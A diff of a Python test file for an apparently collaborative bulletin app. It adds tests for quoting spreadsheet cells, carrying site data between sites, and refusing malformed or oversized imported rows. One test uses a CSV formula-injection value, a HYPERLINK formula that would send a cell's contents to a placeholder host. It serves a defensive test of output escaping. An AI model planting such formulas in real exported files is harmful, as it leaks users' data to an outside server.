@@ -28,12 +28,13 @@ from bulletin.domain.conversations import Conversation
 from bulletin.domain.distributions import Distribution
 from bulletin.domain.events import Deed, Event
 from bulletin.domain.founding import found_site
-from bulletin.domain.members import NotAllowed
+from bulletin.domain.members import Membership, NotAllowed
 from bulletin.domain.pictures import Picture
 from bulletin.domain.printings import Measure, Printing, Proof
 from bulletin.domain.sites import Network
 from bulletin.domain.spreadsheets import cell
 from bulletin.domain.tickets import PrintTicket
+from bulletin.domain.units import Shift
 from bulletin.press.parts import Part
 from bulletin.vault import keys, parcels, words
 from bulletin.vault.sealed import sealed_columns
@@ -188,6 +189,15 @@ def test_a_cell_that_would_be_reckoned_with_is_quoted(begin):
     assert cell("1=1") == "1=1"
 
 
+def test_a_cell_that_another_program_would_divide_is_quoted_at_each_part():
+    assert cell('x;=HYPERLINK("http://e/?"&A1)') == 'x;\'=HYPERLINK("http://e/?"&A1)'
+    assert cell("a\n=1+1\tb\t@2,-3") == "a\n'=1+1\tb\t'@2,'-3"
+    assert [cell(f"{sign}1") for sign in "＝＋－＠"] == ["'＝1", "'＋1", "'－1", "'＠1"]
+    assert cell(" =1+1") == "' =1+1"
+    assert cell(["=1", "safety"]) == "'=1, safety"
+    assert cell("half - half, -5 degrees; we'll see") == "half - half, -5 degrees; we'll see"
+
+
 def test_sums_whose_names_are_gone_are_in_the_table(full):
     (action,) = Action.at(full.id)
     action.sums = {f"{uuid.uuid4().hex} ": [3, 2, 1]}
@@ -265,6 +275,105 @@ def test_other_words_and_other_files_are_a_sentence(full):
             unpacked(spoilt)
 
 
+# What is packed must arrive.
+
+
+def test_an_old_day_and_sixty_corrections_arrive(full, rosa):
+    dora = Contact.at(full.id)[0]
+    talk = Conversation.note(dora, by="Rosa", day=datetime.date(226, 11, 20), note="Long ago")
+    text = "\N{ALCHEMICAL SYMBOL FOR AIR}" * 1_990
+    for number in range(60):
+        talk.correct(by="Rosa", note=f"{number}{text}", ask=f"{number}{text}", commitment=text)
+    talk_id = talk.id
+    db.session.commit()
+    file = carrying.pack(full, WORDS)
+    mill = a_second_site(rosa)
+    with rosa.inside(mill):
+        carrying.bring_in(mill, unpacked(file))
+        there = Conversation.at(mill.id, talk_id)
+        assert (there.day.year, len(there.earlier)) == (226, 60)
+
+
+def test_what_would_arrive_nowhere_is_a_sentence_that_says_where_it_is(full, monkeypatch):
+    (shift,) = db.session.scalars(select(Shift).filter_by(site_id=full.id))
+    shift.plan((0,), "noon", "", "")
+    db.session.flush()
+    with pytest.raises(NotAllowed, match=r"arrive nowhere, so no file was made.*a shift on the map \(its times\)"):
+        carrying.pack(full, WORDS)
+    monkeypatch.setattr(carrying, "SEALED_MAX", carrying.SEAL)
+    with pytest.raises(NotAllowed, match="more than the 30 MB"):
+        carrying.pack(full, WORDS)
+
+
+def test_of_what_happened_the_latest_is_packed(full, monkeypatch):
+    old = Event.note(full, Deed.LEFT, by="Emil")
+    old.day = today() - datetime.timedelta(days=30)
+    db.session.flush()
+    monkeypatch.setattr(carrying, "EVENTS_MAX", 1)
+    events = folder_of(carrying.pack(full, WORDS)).read("rows/event.jsonl").decode().splitlines()
+    assert [json.loads(line)["what"]["by"] for line in events] == ["Rosa"]
+
+
+# What arrives is not believed more than it has to be.
+
+
+def test_what_was_agreed_there_is_a_draft_here_and_what_was_printed_stays_printed(full, rosa):
+    agreed, proposed, printed = (Bulletin.begin(full) for _ in range(3))
+    for bulletin, state in ((agreed, State.AGREED), (proposed, State.PROPOSED), (printed, State.PRINTED)):
+        articles.begin(bulletin, FIELDS, [Part("text", "", "They came back.")], by="Rosa")
+        agreeing.propose(bulletin, rosa.at(full), Written(bulletin).digest)
+        bulletin.state = state.value  # the last without a sheet, as somebody might write it
+        bulletin.agreed = {"digest": Written(bulletin).digest, "at": now().isoformat(), "by": ["Rosa"]}
+    db.session.commit()
+    (run_id,) = {one.id for one in Bulletin.at(full)} - {agreed.id, proposed.id, printed.id}
+    file = carrying.pack(full, WORDS)
+    mill = a_second_site(rosa)
+    with rosa.inside(mill):
+        carrying.bring_in(mill, unpacked(file))
+        db.session.commit()
+        for bulletin in Bulletin.at(mill):
+            kept = bulletin.id == run_id
+            assert bulletin.stage is (State.PRINTED if kept else State.DRAFT)
+            assert bool(agreeing.Voice.about(bulletin)) is kept
+            assert kept or bulletin.agreed is None
+
+
+def test_in_a_site_with_others_in_it_nobody_brings_in_anything(full, rosa, bill):
+    file = carrying.pack(full, WORDS)
+    mill = a_second_site(rosa)
+    with rosa.inside(mill):
+        place = Membership.begin(bill.member, mill, rosa.at(mill).open_key(rosa.private))
+        db.session.commit()
+        with pytest.raises(NotAllowed, match="behind their back"):
+            carrying.bring_in(mill, unpacked(file))
+        place.removal_seconded_at = now()
+        assert carrying.bring_in(mill, unpacked(file))
+
+
+def test_whoever_is_announced_has_the_whole_month(full, rosa):
+    Contact.at(full.id)[0].announced_on = today() - datetime.timedelta(days=29)
+    db.session.commit()
+    file = carrying.pack(full, WORDS)
+    mill = a_second_site(rosa)
+    with rosa.inside(mill):
+        carrying.bring_in(mill, unpacked(file))
+        assert [one.announced_on for one in Contact.at(mill.id)] == [today()]
+
+
+def test_whoever_was_forgotten_here_does_not_come_back_with_an_older_file(full, rosa):
+    Contact.add(full.id, "Emil", by="Rosa")
+    db.session.flush()
+    dora_id, emil_id = (one.id for one in Contact.at(full.id))
+    db.session.commit()
+    file = carrying.pack(full, WORDS)
+    mill = a_second_site(rosa)
+    with rosa.inside(mill):
+        carrying.bring_in(mill, unpacked(file), {dora_id})
+        db.session.commit()
+        assert set(db.session.scalars(select(Contact.id))) == {emil_id}, "nor under the id of her twin"
+        assert db.session.scalars(select(Conversation.id)).all() == []
+
+
 # Files from elsewhere, in which anything may be.
 
 
@@ -337,6 +446,11 @@ def test_a_newer_format_is_a_sentence_and_another_one_is_none_of_ours(plain):
         ("contact", {"version": "1"}),
         ("contact", {"version": 2**40}),
         ("contact", {"version": True}),
+        ("contact", {"version": 10**6 + 1}),
+        ("contact", {"brief": {"name": "x" * 81}}),
+        ("contact", {"brief": {"nickname": "x" * 4_001}}),
+        ("contact", {"brief": {"phone": "+" * 41}}),
+        ("contact", {"details": {"notes": "x" * 400_001}}),
         ("contact", {"id": "1"}),
         ("contact", {"site_id": str(uuid.uuid4())}),
         ("contact", {"merged_into": str(uuid.uuid4())}),
@@ -357,6 +471,11 @@ def test_a_newer_format_is_a_sentence_and_another_one_is_none_of_ours(plain):
         ("action", {"plan": {"form": "dance"}}),
         ("action", {"sums": {"x y": [1]}}),
         ("event", {"what": {"deed": "took over"}}),
+        ("event", {"what": {"at": "2199-01-01T00:00:00+00:00"}}),
+        ("event", {"day": "2199-01-01"}),
+        ("conversation", {"said": {"note": "x" * 2_001}}),
+        ("printing", {"about": {"paper": "a0"}}),
+        ("shift", {"times": {"start": "25:99"}}),
         ("event", {"secret": "of another table"}),
         ("printing", {"pdf": "not a file"}),
         ("printing", {"pdf": {"file": "site.json"}}),
@@ -377,6 +496,8 @@ def test_rows_that_do_not_hold_together_are_refused(plain):
     refused({**plain, "rows/article.jsonl": b"\n".join(header)})
     people = [json.loads(line) for line in plain["rows/contact.jsonl"].splitlines()]
     one, other = people
+    nameless = [{**row, "brief": {**row["brief"], "name": " "}} for row in people]
+    refused({**plain, "rows/contact.jsonl": b"\n".join(json.dumps(row).encode() for row in nameless)})
     one["merged_into"], other["merged_into"] = other["id"], one["id"]
     refused({**plain, "rows/contact.jsonl": b"\n".join(json.dumps(row).encode() for row in people)})
     turnout = json.loads(plain["rows/turnout.jsonl"].splitlines()[0])
@@ -391,8 +512,11 @@ def test_a_small_file_that_unpacks_to_a_large_one_is_refused(plain, monkeypatch)
     refused({**plain, "more": bytes(20_000)})
     monkeypatch.setattr(carried, "OPENED_MAX", 1_000_000)
     monkeypatch.setattr(carried, "ROWS_MAX", 5)
-    refused(plain)
+    refused(plain, "more than 50,000 rows")
     monkeypatch.setattr(carried, "ROWS_MAX", 1_000)
+    monkeypatch.setattr(carried, "EVENTS_MAX", 0)
+    refused(plain)
+    monkeypatch.setattr(carried, "EVENTS_MAX", 10)
     monkeypatch.setattr(carried, "CONTACTS_MAX", 1)
     refused(plain, "no site may have so many")
     monkeypatch.setattr(carried, "MEMBERS_MAX", 3)
